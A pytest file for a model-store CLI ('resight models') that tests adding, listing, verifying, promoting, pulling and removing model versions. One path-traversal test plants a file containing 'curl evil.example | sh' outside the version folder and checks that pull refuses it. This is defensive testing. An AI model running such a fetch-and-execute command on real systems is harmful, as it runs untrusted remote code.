"""resight models …: a store made, shown, checked, promoted and copied."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from model_store.inference_key import sha256_hex
from model_store.names import VersionId
from model_store.store import ModelStore
from tests.cli.conftest import Resight
from tests.fixtures_local import MODELS, MOTION, PHOTOS, photo, write_files, write_json
from tests.graphs import pooling, random_head
from tests.model_store.classifiers import PLAIN, colours
from tests.shared_data import shared

SSDLITE = {
    "preprocess": {"resize": "stretch"},
    "score_floor": 0.05,
    "nms": {"iou": 0.5, "max_detections": 100},
    "batch": {"max": 1},
}
WEIGHTS = MODELS / "ssdlite-coco" / "1" / "model.onnx"


@pytest.fixture
def motion_config(tmp_path: Path) -> Path:
    return write_json(tmp_path / "motion.json", MOTION)


@pytest.fixture
def store(home: Path) -> ModelStore:
    return ModelStore(str(home / "models"))


def add_motion(resight: Resight, config: Path, version: str = "1", *more: object) -> str:
    words = ("models", "add", "--name", "blobs", "--version", version, "--config", config)
    return resight(*words, *more).ok()


def test_an_empty_store_is_an_empty_list_in_every_format(resight: Resight) -> None:
    header = ["model", "kind", "aliases", "rollout", "weights_sha256", "inference_key"]
    assert resight("models", "list").ok().split() == header
    assert json.loads(resight("models", "list", "--format", "json").ok()) == []
    assert resight("models", "list", "--format", "csv").ok().split() == [",".join(header)]


def test_onnx_weights_are_added_with_probe_readme_and_licence(
    resight: Resight, store: ModelStore, tmp_path: Path
) -> None:
    config = write_json(tmp_path / "c.json", SSDLITE)
    readme = tmp_path / "about.md"
    readme.write_text("# deer")
    words = ("models", "add", WEIGHTS, "--name", "deer", "--version", "3", "--config", config)
    more = ("--probe", PHOTOS / "cat.jpg", "--readme", readme, "--licence", readme)
    facts = json.loads(resight(*words, *more, "--format", "json").ok())
    added = store.verify(VersionId("deer", "3"))
    recognised = facts.pop("recognised")
    assert facts == {
        "model": "deer@3",
        "weights_sha256": added.info.weights_sha256,
        "inference_key": added.info.inference_key,
    }
    assert recognised["decoder"]["found"] == "yolov8"
    assert recognised["resize"] == {"found": "stretch", "why": "the config file"}
    assert store.read_file(added, "probe/cat.jpg") == photo("cat")
    assert store.read_file(added, "README.md") == store.read_file(added, "LICENSE") == b"# deer"


def test_a_model_without_weights_is_added_from_its_config(
    resight: Resight, motion_config: Path, store: ModelStore
) -> None:
    add_motion(resight, motion_config)
    assert [str(version) for version in store.versions("blobs")] == ["blobs@1"]


def test_a_standard_export_needs_no_flags(resight: Resight, store: ModelStore, tmp_path: Path) -> None:
    weights = write_files(tmp_path, {"SSDLite COCO.v1.onnx": WEIGHTS.read_bytes()})
    done = resight("models", "add", weights / "SSDLite COCO.v1.onnx")
    assert [str(version) for version in store.versions("ssdlite-coco.v1")] == ["ssdlite-coco.v1@1"]
    lines = {line.split("  ")[0]: line for line in done.ok().splitlines()}
    assert lines["model"].endswith("ssdlite-coco.v1@1")
    assert lines["decoder"].split()[1] == "yolov8"
    assert "4 + 80 numbers for each anchor" in lines["decoder"]
    assert "80: person, bicycle, car, motorcycle, airplane and 75 more" in lines["labels"]
    assert lines["input"].endswith("300 x 300 px  (fixed by the graph)")
    assert "RGB, 0 to 1  (the graph begins with Mul 2, Sub 1)" in lines["pixels"]
    assert "stretch  (1,917 anchors are not the cells" in lines["resize"]
    assert "over IoU 0.6, within a class, at most 300" in lines["suppression"]
    assert "promote ssdlite-coco.v1@1" in done.err


def test_versions_are_counted_and_the_same_one_is_not_added_twice(
    resight: Resight, store: ModelStore, tmp_path: Path
) -> None:
    words = ("models", "add", WEIGHTS, "--name", "deer", "--format", "json")
    config = write_json(tmp_path / "c.json", {"thresholds": {"default": 0.4}})
    for more, version in (((), "1"), (("--config", config), "2"), ((), "1"), (("--config", config), "2")):
        facts = json.loads(resight(*words, *more).ok())
        assert facts["model"] == f"deer@{version}"
        assert facts["recognised"]["labels"]["why"] == "'names' in the metadata"
    assert [version.version for version in store.versions("deer")] == ["1", "2"]
    again = resight(*words)
    assert "deer@1 already has these weights and this config" in again.err
    assert "to add it again" not in again.err
    probed = resight(*words, "--probe", PHOTOS / "cat.jpg")
    assert "to add it again with probe/cat.jpg, use another --version" in probed.err
    assert len(store.versions("deer")) == 2
    resight(*words, "--version", "3", "--probe", PHOTOS / "cat.jpg").ok()
    kept = resight(*words, "--probe", PHOTOS / "cat.jpg")
    assert json.loads(kept.ok())["model"] == "deer@3"
    assert "to add it again" not in kept.err


def test_a_model_without_a_file_needs_a_name_and_no_version(
    resight: Resight, motion_config: Path, store: ModelStore
) -> None:
    refused = resight("models", "add", "--config", motion_config).refused(2)
    assert "give one with --name" in refused
    words = ("models", "add", "--name", "blobs", "--config", motion_config)
    assert "blobs@1" in resight(*words).ok()
    assert "blobs@1 already has these weights" in resight(*words).err
    assert [str(version) for version in store.versions("blobs")] == ["blobs@1"]


def test_a_file_without_a_usable_name_needs_one(resight: Resight, tmp_path: Path) -> None:
    folder = write_files(tmp_path, {"().onnx": WEIGHTS.read_bytes()})
    assert "give one with --name" in resight("models", "add", folder / "().onnx").refused(2)


@pytest.mark.parametrize(
    ("weights", "said"),
    [
        (pooling(5, {"names": "['animal']", "stride": "64"}), "1280 is usual for stride 64"),
        (pooling(5, {"names": "['animal']"}), "640 is usual"),
    ],
)
def test_a_guess_is_said(resight: Resight, tmp_path: Path, weights: bytes, said: str) -> None:
    folder = write_files(tmp_path, {"md_v5a.onnx": weights})
    out = resight("models", "add", folder / "md_v5a.onnx").ok()
    assert "guessed: neither graph nor metadata state it" in out
    assert said in out


def test_adding_without_a_probe_says_so(resight: Resight, motion_config: Path) -> None:
    words = ("models", "add", "--name", "blobs", "--version", "1", "--config", motion_config)
    notes = resight(*words).err
    assert "no --probe image was given" in notes
    assert notes.endswith("resight models promote blobs@1\n")
    again = resight(*words[:5], "2", *words[6:]).err
    assert "until one is promoted, 'blobs' refers to none of blobs@1, blobs@2" in again


@pytest.mark.parametrize(
    ("words", "code", "message"),
    [
        ([], 2, "a weights file is missing"),
        (["away.onnx"], 2, "cannot read away.onnx: No such file"),
        ([PHOTOS / "cat.jpg"], 6, "this is not an ONNX file but a JPEG image"),
        ([PHOTOS], 2, "is a folder: use the .onnx or .pt2 file"),
        ([WEIGHTS.parent.parent], 2, f"with: resight models pull {WEIGHTS.parent.parent}"),
        ([WEIGHTS.parent], 2, f"with: resight models pull {WEIGHTS.parent}"),
        ([WEIGHTS, "--config", "away.json"], 2, "cannot read away.json"),
        ([WEIGHTS, "--config", PHOTOS / "README.md"], 2, "is not JSON"),
        ([WEIGHTS, "--probe", "away.jpg"], 2, "cannot read away.jpg"),
        ([WEIGHTS, "--name", "../deer"], 2, "is not a model name"),
        ([WEIGHTS, "--version", "a/b"], 2, "is not a version"),
    ],
)
def test_what_cannot_be_added_is_refused_and_leaves_no_version(
    resight: Resight, store: ModelStore, words: list[object], code: int, message: str
) -> None:
    done = resight("models", "add", "--name", "deer", "--version", "1", *words)
    assert message in done.refused(code)
    assert store.versions("deer") == []


@pytest.mark.parametrize(
    ("config", "code", "message"),
    [
        ([], 2, "must contain a JSON object"),
        ({}, 2, "a weights file is missing"),
        ({**MOTION, "labels": []}, 6, "labels"),
        ({**MOTION, "colour": "red"}, 6, "colour"),
        ({**MOTION, "decoder": "yolov8"}, 6, "cannot be combined with decoder"),
    ],
)
def test_a_wrong_config_is_refused_and_names_the_field(
    resight: Resight, tmp_path: Path, config: object, code: int, message: str
) -> None:
    path = write_json(tmp_path / "c.json", config)
    done = resight("models", "add", "--name", "blobs", "--version", "1", "--config", path)
    assert message in done.refused(code)


@pytest.mark.parametrize("runtime", ["motion", 7, None, ["motion"]])
def test_a_config_whose_runtime_is_no_object_is_refused(resight: Resight, tmp_path: Path, runtime: object) -> None:
    path = write_json(tmp_path / "c.json", {**MOTION, "runtime": runtime})
    resight("models", "add", "--name", "blobs", "--version", "1", "--config", path).refused(2)


def test_a_version_is_never_added_twice(resight: Resight, motion_config: Path) -> None:
    add_motion(resight, motion_config)
    words = ("models", "add", "--name", "blobs", "--version", "1", "--config", motion_config)
    assert "versions never change" in resight(*words).refused(6)


def test_list_shows_aliases_and_damage_costs_only_its_own_line(
    resight: Resight, motion_config: Path, home: Path
) -> None:
    add_motion(resight, motion_config, "1")
    add_motion(resight, motion_config, "2")
    resight("models", "promote", "blobs@2").ok()
    (home / "models" / "blobs" / "1" / "config.json").write_text("{}")
    done = resight("models", "list", "--format", "json")
    rows = json.loads(done.ok())
    assert [(row["model"], row["aliases"]) for row in rows] == [("blobs@2", "production")]
    assert "blobs@1" in done.err


def test_canaries_shadows_and_pins_are_shown_without_a_cluster(resight: Resight, motion_config: Path) -> None:
    for version in ("1", "2", "3"):
        add_motion(resight, motion_config, version)
    resight("models", "promote", "blobs@1").ok()
    resight("models", "canary", "blobs@2", "20").ok()
    resight("models", "shadow", "blobs@3", "12.5").ok()
    resight("models", "pin", "blobs").ok()
    wanted = {
        "blobs@1": "pinned as production",
        "blobs@2": "canary of production (20 %)",
        "blobs@3": "shadow of production (12.5 %)",
    }
    rows = json.loads(resight("models", "list", "--format", "json").ok())
    assert {row["model"]: row["rollout"] for row in rows} == wanted
    assert "canary of production (20 %)" in resight("models", "list").ok()
    shown = json.loads(resight("models", "show", "blobs", "--format", "json").ok())
    assert (shown["aliases"], shown["rollout"]) == ("production", wanted["blobs@1"])
    status = json.loads(resight("status", "--format", "json").out)
    assert status["rollout"] == "; ".join(f"{version}: {one}" for version, one in wanted.items())


@pytest.mark.parametrize("ref", ["blobs", "blobs@1", "blobs:production"])
def test_show_gives_identity_config_and_files(resight: Resight, motion_config: Path, ref: str) -> None:
    add_motion(resight, motion_config)
    resight("models", "promote", "blobs@1").ok()
    facts = json.loads(resight("models", "show", ref, "--format", "json").ok())
    assert (facts["model"], facts["decoder"], facts["labels"]) == ("blobs@1", "blobs", ["blob"])
    assert {"config.json", "probe/expected.json"} <= set(facts["files"])
    assert "blobs@1" in resight("models", "show", ref).ok()


def test_verify_accepts_a_sound_version_and_refuses_a_changed_one(
    resight: Resight, motion_config: Path, home: Path
) -> None:
    add_motion(resight, motion_config)
    assert "blobs@1 is valid" in resight("models", "verify", "blobs@1").err
    (home / "models" / "blobs" / "1" / "README.md").write_text("changed")
    assert "README.md has sha256" in resight("models", "verify", "blobs@1").refused(6)


def test_promote_moves_the_alias_only_to_what_loads(
    resight: Resight, motion_config: Path, store: ModelStore, home: Path
) -> None:
    add_motion(resight, motion_config, "1")
    add_motion(resight, motion_config, "2")
    assert "blobs:production is now blobs@1" in resight("models", "promote", "blobs@1").err
    resight("models", "promote", "blobs@2", "--alias", "canary").ok()
    assert store.aliases("blobs") == {"production": "1", "canary": "2"}
    (home / "models" / "blobs" / "2" / "probe" / "expected.json").unlink()
    resight("models", "promote", "blobs@2").refused(6)
    assert store.aliases("blobs") == {"production": "1", "canary": "2"}


@pytest.mark.parametrize(
    ("words", "code", "message"),
    [
        (["promote", "blobs"], 2, "has no version: use blobs@VERSION"),
        (["promote", "blobs:production"], 2, "has no version"),
        (["promote", "blobs@9"], 6, "blobs@9 is not in"),
        (["promote", "blobs@1", "--alias", "Bad Alias"], 2, "is not a model"),
        (["show", "deer"], 6, "available: blobs"),
        (["show", "blobs:canary"], 6, "no alias 'canary'"),
        (["verify", "blobs@9"], 6, "available: blobs@1"),
        (["verify", ""], 2, "is not a model"),
        (["pull", "away"], 6, "no model version in away"),
        (["pull", "away", "blobs"], 6, "unknown model 'blobs' in"),
        (["pull", "away", "blobs@1"], 6, "blobs@1 is not in"),
    ],
)
def test_a_wrong_reference_is_refused_and_says_what_there_is(
    resight: Resight, motion_config: Path, words: list[str], code: int, message: str
) -> None:
    add_motion(resight, motion_config)
    assert message in resight("models", *words).refused(code)


def test_pull_copies_a_version_file_by_file_and_is_safe_to_repeat(resight: Resight, store: ModelStore) -> None:
    assert "copied" in resight("models", "pull", MODELS, "motion@1").err
    ours, theirs = store.verify(VersionId("motion", "1")), ModelStore(str(MODELS))
    assert ours.digests == theirs.digests(VersionId("motion", "1"))
    assert store.aliases("motion") == {}
    assert "already in" in resight("models", "pull", MODELS, "motion@1").err


@pytest.mark.parametrize(
    ("damage", "repaired"),
    [
        (lambda place: (place / "config.json").write_text("{}"), "config.json"),
        (lambda place: (place / "README.md").unlink(), "README.md"),
        (lambda place: (place / "READY").write_text("torn"), "READY"),
        (lambda place: (place / "CLAIM").unlink(), ""),
    ],
)
def test_pull_repairs_a_damaged_version(
    resight: Resight, store: ModelStore, home: Path, damage: Callable[[Path], object], repaired: str
) -> None:
    resight("models", "pull", MODELS, "motion@1").ok()
    damage(home / "models" / "motion" / "1")
    if repaired:
        assert "pull the version again" in resight("models", "verify", "motion@1").refused(6)
    done = resight("models", "pull", MODELS, "motion@1")
    done.ok()
    assert done.err.rstrip().endswith(f"; repaired: {repaired}") is bool(repaired)
    store.verify(VersionId("motion", "1"))


@pytest.mark.parametrize("words", [["models/motion"], ["models/motion/1"], ["models", "motion"]])
def test_pull_needs_no_version_where_there_is_one(resight: Resight, store: ModelStore, words: list[str]) -> None:
    done = resight("models", "pull", MODELS.parent / words[0], *words[1:])
    assert done.ok().startswith("model           motion@1")
    assert "serve it with: resight models promote motion@1" in done.err
    assert store.versions("motion") == [VersionId("motion", "1")]


def test_pull_lists_versions_where_there_are_several(
    resight: Resight, motion_config: Path, home: Path, tmp_path: Path
) -> None:
    refused = resight("models", "pull", MODELS).refused(2)
    assert "has several versions: motion@1, ssdlite-coco@1; choose one" in refused
    add_motion(resight, motion_config, "1")
    add_motion(resight, motion_config, "2")
    source = (home / "models").rename(tmp_path / "source")
    for words in ([source / "blobs"], [source, "blobs"]):
        refused = resight("models", "pull", *words).refused(2)
        assert f"blobs@1, blobs@2; choose one: resight models pull {source} blobs@1" in refused


def test_pull_never_replaces_a_version_that_differs(
    resight: Resight, motion_config: Path, tmp_path: Path, store: ModelStore
) -> None:
    words = ("models", "add", "--name", "motion", "--version", "1", "--config", motion_config)
    resight(*words).ok()
    before = store.digests(VersionId("motion", "1"))
    assert "with other files" in resight("models", "pull", MODELS, "motion@1").refused(6)
    assert store.digests(VersionId("motion", "1")) == before


def test_pull_refuses_a_damaged_source(
    resight: Resight, motion_config: Path, home: Path, tmp_path: Path, store: ModelStore
) -> None:
    add_motion(resight, motion_config)
    source = (home / "models").rename(tmp_path / "source")
    (source / "blobs" / "1" / "README.md").write_text("changed")
    assert "README.md has sha256" in resight("models", "pull", source, "blobs@1").refused(6)
    assert store.versions("blobs") == []


@pytest.mark.parametrize("up", ["../../../../victim", "probe/../../../../../victim"])
def test_pull_writes_no_file_outside_the_version(
    resight: Resight, motion_config: Path, home: Path, tmp_path: Path, store: ModelStore, up: str
) -> None:
    """READY of the source lists a path outside the version, with the right digest of the file there."""
    add_motion(resight, motion_config)
    (tmp_path / "a" / "b").mkdir(parents=True)
    source = (home / "models").rename(tmp_path / "a" / "b" / "source")
    place = source / "blobs" / "1"
    (place / up).resolve().write_text("curl evil.example | sh")
    ready = json.loads((place / "READY").read_text())
    ready["files"][up] = sha256_hex((place / up).read_bytes())
    write_json(place / "READY", ready)
    before = {path for path in tmp_path.rglob("*") if not path.is_relative_to(source)}
    assert "not a file name inside a version" in resight("models", "pull", source, "blobs@1").refused(6)
    assert {path for path in tmp_path.rglob("*") if not path.is_relative_to(source)} == before
    assert store.versions("blobs") == []


def test_pull_copies_nothing_that_a_link_leads_to(
    resight: Resight, motion_config: Path, home: Path, tmp_path: Path, store: ModelStore
) -> None:
    add_motion(resight, motion_config)
    source = (home / "models").rename(tmp_path / "source")
    readme = source / "blobs" / "1" / "README.md"
    readme.rename(tmp_path / "README.md")
    readme.symlink_to(tmp_path / "README.md")
    assert "is a link to a file outside" in resight("models", "pull", source, "blobs@1").refused(6)
    assert store.versions("blobs") == []


def test_a_version_that_was_cut_off_is_listed_as_unfinished(
    resight: Resight, motion_config: Path, home: Path, store: ModelStore
) -> None:
    add_motion(resight, motion_config)
    (home / "models" / "blobs" / "1" / "READY").unlink()
    listed = resight("models", "list")
    assert "unfinished: blobs@1" in listed.err
    add_motion(resight, motion_config, "1")
    assert "unfinished" not in resight("models", "list").err
    assert [str(version) for version in store.versions("blobs")] == ["blobs@1"]


def test_remove_says_what_it_would_do_and_with_yes_does_it(
    resight: Resight, motion_config: Path, home: Path, store: ModelStore, tmp_path: Path
) -> None:
    add_motion(resight, motion_config, "1")
    other = write_json(tmp_path / "other.json", {**MOTION, "score_floor": 0.2})
    add_motion(resight, other, "2")
    place, before = home / "models" / "blobs" / "2", store.digests(VersionId("blobs", "2"))
    asked = resight("models", "remove", "blobs@2")
    assert "nothing was removed: add --yes" in asked.err
    assert store.verify(VersionId("blobs", "2")).digests == before
    removed = json.loads(resight("models", "remove", "blobs@2", "--yes", "--format", "json").ok())
    assert (removed["model"], removed["removed"]) == ("blobs@2", True)
    assert [path.name for path in place.iterdir()] == ["CLAIM"]
    listed = resight("models", "list", "--format", "json")
    assert [row["model"] for row in json.loads(listed.ok())] == ["blobs@1"]
    assert listed.err == "", "it is not unfinished either"
    assert "blobs@2 is not in" in resight("models", "remove", "blobs@2", "--yes").refused(6)
    words = ("models", "add", "--name", "blobs", "--config", motion_config, "--version", "2")
    assert "was removed; choose another version" in resight(*words).refused(6)
    add_motion(resight, other, "2")
    assert store.digests(VersionId("blobs", "2")) == before, "the same files bring it back"


def test_what_was_cut_off_can_be_removed(resight: Resight, motion_config: Path, home: Path) -> None:
    add_motion(resight, motion_config)
    (home / "models" / "blobs" / "1" / "READY").unlink()
    assert "resight models remove blobs@1 --yes" in resight("models", "list").err
    resight("models", "remove", "blobs@1", "--yes").ok()
    assert resight("models", "list").err == ""


def test_what_is_needed_is_not_removed_and_the_way_out_is_said(
    resight: Resight, motion_config: Path, store: ModelStore
) -> None:
    for version in ("1", "2", "3"):
        add_motion(resight, motion_config, version)
    resight("models", "promote", "blobs@1").ok()
    resight("models", "canary", "blobs@2", "5").ok()
    resight("models", "shadow", "blobs@3", "5").ok()
    for version, why in (
        ("1", "the alias blobs:production refers to it (resight models promote blobs@OTHER"),
        ("2", "it is the canary of blobs:production (resight models canary blobs@2 0)"),
        ("3", "it is the shadow of blobs:production (resight models shadow blobs@3 0)"),
    ):
        for yes in ([], ["--yes"]):
            assert why in resight("models", "remove", f"blobs@{version}", *yes).refused(2)
    assert len(store.versions("blobs")) == 3
    for kind, version in (("canary", 2), ("shadow", 3)):
        resight("models", kind, f"blobs@{version}", "0").ok()
        resight("models", "remove", f"blobs@{version}", "--yes").ok()


def test_a_number_that_is_given_is_refused_where_another_is_adding_it(
    resight: Resight, motion_config: Path, home: Path, store: ModelStore
) -> None:
    place = home / "models" / "blobs" / "1"
    place.mkdir(parents=True)
    (place / "CLAIM").write_text("somebody else's files")
    words = ("models", "add", "--name", "blobs", "--config", motion_config)
    assert "claimed by another publication" in resight(*words, "--version", "1").refused(6)
    assert "blobs@2" in resight(*words).ok()
    assert (place / "CLAIM").read_text() == "somebody else's files"


@pytest.mark.parametrize("file", ["generated", "trailcam_yolox_tiny_640.yolox-raw.fp16.onnx"])
def test_detections_beside_the_picture_are_a_doubt_that_is_said(resight: Resight, tmp_path: Path, file: str) -> None:
    """These weights take RGB from 0 to 1, as their graph shows; with 0 to 255 they detect things anywhere."""
    twin = "test_detections_beside_the_picture_are_a_doubt_that_is_said[generated"
    weights = tmp_path / "generated.onnx"
    if file == "generated":
        weights.write_bytes(random_head("yolox_raw"))
    else:
        weights = shared(f"models/{file}", twin)
    words = ("models", "add", weights, "--name", "trailcam", "--probe", PHOTOS / "cat.jpg")
    assert "beside" not in resight(*words).err
    wrong = {"preprocess": {"channel_order": "BGR", "divide_by": 1, "pad_value": 114}}
    config = write_json(tmp_path / "trailcam.json", wrong)
    assert "lie outside the picture" in resight(*words, "--config", config).err


def test_a_classifier_is_added_listed_verified_and_promoted_like_a_detector(resight: Resight, tmp_path: Path) -> None:
    file, config = tmp_path / "colours.onnx", write_json(tmp_path / "colours.json", PLAIN)
    file.write_bytes(colours())
    added = resight("models", "add", file, "--config", config, "--probe", PHOTOS / "cat.jpg", "--format", "json")
    said = json.loads(added.ok())
    assert said["model"] == "colours@1"
    assert said["recognised"]["kind"]["found"] == "classifier"
    assert "outside the picture" not in added.err
    resight("models", "verify", "colours@1").ok()
    resight("models", "promote", "colours@1").ok()
    (row,) = json.loads(resight("models", "list", "--format", "json").ok())
    assert (row["model"], row["kind"], row["aliases"]) == ("colours@1", "classifier", "production")
    shown = json.loads(resight("models", "show", "colours", "--format", "json").ok())
    assert (shown["kind"], shown["scores"]) == ("classifier", "logits")
    refused = resight("detect", PHOTOS / "cat.jpg", "--model", "colours").refused(2)
    assert "colours@1 is a classifier, and a detector is needed here" in refused
